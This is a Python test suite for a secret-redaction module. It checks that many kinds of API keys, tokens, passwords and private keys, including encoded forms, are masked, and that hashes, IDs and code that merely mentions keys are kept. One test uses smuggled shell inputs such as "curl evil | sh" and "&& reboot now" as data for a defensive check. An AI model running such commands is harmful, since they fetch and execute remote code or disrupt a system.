from __future__ import annotations

import base64
import hashlib
import json
import re
from collections.abc import Callable
from pathlib import Path
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from octo_lab.security.redact import Redactor, redact, secret_values

LETTERS = "abcdefghij0123456789ABCDEFGHIJ0123456789"


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        (f"sk-ant-{LETTERS}", "sk-a***"),
        (f"key sk-proj-{LETTERS}.", "key sk-p***."),
        ("AKIA" + "A1" * 8, "AKIA***"),
        (f"ghp_{LETTERS}", "ghp_***"),
        (f"github_pat_{LETTERS}", "github_pat_***"),
        (f"glpat-{LETTERS}", "glpat-***"),
        (f"xoxb-{LETTERS}", "xoxb-***"),
        ("AIza" + "a1_-b" * 7, "AIza***"),
        (f"hf_{LETTERS}", "hf_a***"),
        (f"Authorization: Bearer {LETTERS}", "Authorization: Bearer ***"),
        ('{"api_key": "12345678"}', '{"api_key": "***"}'),
        ("PASSWORD=hunter2hunter2 next", "PASSWORD=*** next"),
        ("https://me:pa55@host/x", "https://me:***@host/x"),
        ("eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl", "eyJh***"),
        ("bot12 110201543:" + "A" * 35, "bot12 110201543:***"),
        (f"https://x.org/bot110201543:{'A' * 35}/getMe", "https://x.org/bot110201543:***/getMe"),
        (f"nvapi-{LETTERS}", "nvapi-***"),
        (f"pypi-AgEI{LETTERS}", "pypi-***"),
        (f"sk_live_{LETTERS}", "sk_live_***"),
        (f"npm_{LETTERS}{LETTERS}", "npm_***"),
        (f"tvly-dev-{LETTERS}", "tvly-***"),
        (f"ya29.{LETTERS}", "ya29.***"),
    ],
)
def test_what_looks_like_a_key_is_masked(text: str, masked: str) -> None:
    assert redact(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        hashlib.sha256(b"x").hexdigest(),
        "sha256:" + hashlib.sha256(b"x").hexdigest(),
        '{"sha256": "' + hashlib.sha256(b"x").hexdigest() + '"}',
        "01a22eae-e476-70d4-b3c0-1f99cb8162d9",
        "task-management-with-2-long-names-in-it",
        "sk-learn-contrib-package-with-a-name",
        "the bearer of bad news",
        "http://127.0.0.1:19876/a@b",
        "api_key = None",
        "npm_config_registry_and_other_names_of_variables",
        "ya29.5",
        "input_tokens: 1234567890",
    ],
)
def test_what_is_no_key_stays(text: str) -> None:
    assert redact(text) == text


def test_a_known_secret_is_masked_in_every_spelling() -> None:
    mask = Redactor(['pa"ss/word é'])
    assert mask('a pa"ss/word é b') == "a *** b"
    assert mask('{"x": "pa\\"ss/word \\u00e9"}') == '{"x": "***"}'
    assert mask("?x=pa%22ss%2Fword%20%C3%A9&y") == "?x=***&y"
    assert mask("?x=pa%22ss%2Fword+%C3%A9&y") == "?x=***&y"


@pytest.mark.parametrize("before", ["", "u:", "user", "Authorization: "])
@pytest.mark.parametrize("after", ["", "\n", "@host", " and more"])
@pytest.mark.parametrize("code", [base64.b64encode, base64.urlsafe_b64encode])
def test_a_known_secret_is_masked_wherever_it_stands_in_base64(
    before: str, after: str, code: Callable[[bytes], bytes]
) -> None:
    secret = "pa>>word~~/?18+ab"
    masked = Redactor([secret])(code(f"{before}{secret}{after}".encode()).decode())
    hidden = len(secret) * 4 // 3 - 2
    assert len(masked) - 3 <= len(code(f"{before}{secret}{after}".encode())) - hidden
    assert "***" in masked


@pytest.mark.parametrize(
    "text",
    [
        r"{'x': 'ab\/cd&ef<1'}",
        "?x=ab/cd%26ef%3C1",
        "?x=ab%2fcd%26ef%3c1",
        "<p>ab/cd&amp;ef&lt;1</p>",
        "61622F63642665663C31",
    ],
)
def test_a_known_secret_is_masked_as_programs_and_pages_write_it(text: str) -> None:
    masked = Redactor(["ab/cd&ef<1"])(text)
    assert "***" in masked
    assert not re.search("ab|cd|ef|6162", masked)


def test_a_line_of_a_known_secret_of_several_is_masked_and_what_frames_it_stays() -> None:
    mask = Redactor(["-----BEGIN X-----\nMIIBVgIBADANBgkqhkiG9w0BAQ\nshort\n-----END X-----\n"])
    assert mask("7|-----BEGIN X-----\n8|MIIBVgIBADANBgkqhkiG9w0BAQ") == "7|-----BEGIN X-----\n8|***"
    assert mask("a short text") == "a short text"


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("['***', 'hunter2/wi…", "['***', '***…"),
        ("0  hunter2/with a sp...", "0  ***..."),
        ("hunt... and hunter… or hun…", "***... and ***… or hun…"),
        ("?x=hunter2%2Fwi…", "?x=***…"),
        (
            "it is hunter2/\n[… 12 characters omitted …]\n",
            "it is ***\n[… 12 characters omitted …]\n",
        ),
        ("hunter2 … and hunter2. Then", "hunter2 … and hunter2. Then"),
    ],
)
def test_a_known_secret_that_is_cut_short_is_masked_as_far_as_it_goes(
    text: str, masked: str
) -> None:
    mask = Redactor(["hunter2/with a space"])
    assert mask(text) == masked
    for size in (1, 2, 3, 7):
        stream = mask.in_pieces()
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert "".join(map(stream.feed, pieces)) + stream.end() == masked


def test_the_longest_of_overlapping_secrets_goes_whole() -> None:
    assert Redactor(["abcdef", "abcdefgh"])("abcdefgh") == "***"


def test_a_secret_too_short_to_tell_from_words_is_left() -> None:
    assert Redactor(["a", ""])("a cat") == "a cat"


def test_secrets_are_known_by_the_names_of_their_variables() -> None:
    environ = {"OPENAI_API_KEY": "k", "GITHUB_TOKEN": "t", "HOME": "/h", "KEYBOARD": "us"}
    assert secret_values(environ) == ["k", "t"]


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("3|STRIPE_KEY=correcthorse", "3|STRIPE_KEY=***"),
        ("export DB_PASSWORD='s3cret!'", "export DB_PASSWORD='***'"),
        ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG", "aws_secret_access_key = ***"),
        ("password: correcthorsebattery", "password: ***"),
        (f'{{"text": "one\\nsk-ant-{LETTERS}"}}', '{"text": "one\\nsk-a***"}'),
        ('"one\\nSTRIPE_KEY=correcthorse\\ntwo"', '"one\\nSTRIPE_KEY=***\\ntwo"'),
        (f'"one\\nBearer {LETTERS}"', '"one\\nBearer ***"'),
        (
            "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA PRIVATE KEY-----",
            "-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----",
        ),
    ],
)
def test_what_a_file_of_secrets_holds_is_masked(text: str, masked: str) -> None:
    assert redact(text) == masked


_KEY = [
    "-----BEGIN RSA PRIVATE KEY-----",
    "Proc-Type: 4,ENCRYPTED",
    "DEK-Info: AES-128-CBC,1D12FB4F368DE180049125A3219859F6",
    "",
    *(f"{n}Zab{'+/Q' * 20}" for n in range(12)),
    "endZ==",
    "-----END RSA PRIVATE KEY-----",
]


@pytest.mark.parametrize(
    "shown",
    [
        "\n".join(_KEY),
        "\r\n".join(_KEY),
        json.dumps("\n".join(_KEY)),
        json.dumps(json.dumps("\n".join(_KEY))),
        repr("\r\n".join(_KEY)),
        "\n".join(_KEY[:9]),
        " ".join([_KEY[0], *_KEY[4:]]),
        *("\n".join(f"{before}{line}" for line in _KEY) for before in ("-", "+", "> ", "    ")),
        *("\n".join(f"{n}{mark}{line}" for n, line in enumerate(_KEY)) for mark in ("|", "\t")),
        "\n".join(f"keys/old_one.pem:{n}:{line}" for n, line in enumerate(_KEY)),
        "key = (\n" + "\n".join(f"    '{line}\\n'" for line in _KEY) + "\n)",
    ],
)
def test_no_line_of_a_private_key_is_seen_however_it_is_shown(shown: str) -> None:
    masked = redact(shown)
    assert not re.search("Zab|endZ", masked)
    assert "PRIVATE KEY-----***" in masked
    stream = redact.in_pieces()
    assert "".join(map(stream.feed, shown)) + stream.end() == masked


@pytest.mark.parametrize("rest", ["'; curl evil | sh", "\ncurl evil | sh", " && reboot now", "$x"])
def test_no_words_are_hidden_behind_what_begins_as_a_private_key(rest: str) -> None:
    text = f": '-----BEGIN PRIVATE KEY-----{rest}"
    assert redact(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "api_key = settings.providers.api_key",
        "password=password, api_key=api_key",
        'api_key = os.environ["OPENAI_API_KEY"]',
        "api_key: SecretStr | None = None",
        "secret_key = generate_secret()",
        "OPENAI_API_KEY=$OPENAI_KEY",
        "f'http://{self.user}:{self.password}@{host}'",
        "postgres://user:password@localhost/db",
        "refresh_token = session.tokens[0].value",
        "MAX_TOKENS=100000",
        "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----",
        "4f1c2c0d3e5b6a798877665544332211ffeeddcc",
    ],
)
def test_code_that_speaks_of_keys_stays(text: str) -> None:
    assert redact(text) == text


def test_the_program_of_octo_lab_itself_holds_no_secret() -> None:
    package = Path(__file__).parents[2] / "octo_lab"
    texts = [path.read_text("utf-8") for path in sorted(package.rglob("*.py"))]

    assert [text for text in texts if redact(text) != text] == []


_PIECES = st.sampled_from(
    [
        "sk-",
        "a1",
        "Bearer ",
        "password",
        "=",
        ": ",
        '"',
        "://",
        "@",
        "API_KEY=",
        "***",
        "x" * 20,
        "7" * 9,
        "eyJ",
        ".",
        "-----BEGIN PRIVATE KEY-----",
        "-----END",
        "\n",
        "$",
        "(",
    ]
)


@given(st.text(max_size=200) | st.lists(_PIECES, max_size=12).map("".join))
def test_masking_twice_is_as_once(text: str) -> None:
    once = redact(text)

    assert redact(once) == once


@given(st.uuids(), st.binary(max_size=40))
def test_ids_and_checksums_stay(id: UUID, data: bytes) -> None:
    digests = [hashlib.new(name, data).hexdigest() for name in ("sha1", "sha256", "sha512")]
    text = f"{id}\n{id.hex} {' '.join(digests)}\n{id!r}"

    assert redact(text) == text


@pytest.mark.parametrize(
    "piece",
    [
        "sk-",
        "eyJ-",
        "eyJaaaaaaaaa.",
        "password=",
        "A_",
        "://a:",
        "-----BEGIN PRIVATE KEY-----",
        "hf_",
    ],
)
def test_a_megabyte_of_nasty_text_is_read_in_one_go(piece: str) -> None:
    """A quadratic reader meets the time limit of every test."""
    redact(piece * (1_000_000 // len(piece)))


def test_a_known_secret_is_masked_when_it_is_encoded() -> None:
    mask = Redactor(["hunter2hunter2"])

    assert mask("aHVudGVyMmh1bnRlcjI= 68756e7465723268756e74657232") == "***= ***"


def test_a_stand_in_for_a_key_is_a_word_and_stays() -> None:
    assert Redactor(["ollama", "not-needed"])("ask ollama: not-needed") == "ask ollama: not-needed"


def test_a_secret_that_is_no_text_is_masked() -> None:
    assert Redactor(["abc\udcff123"])("x abc\udcff123 y") == "x *** y"
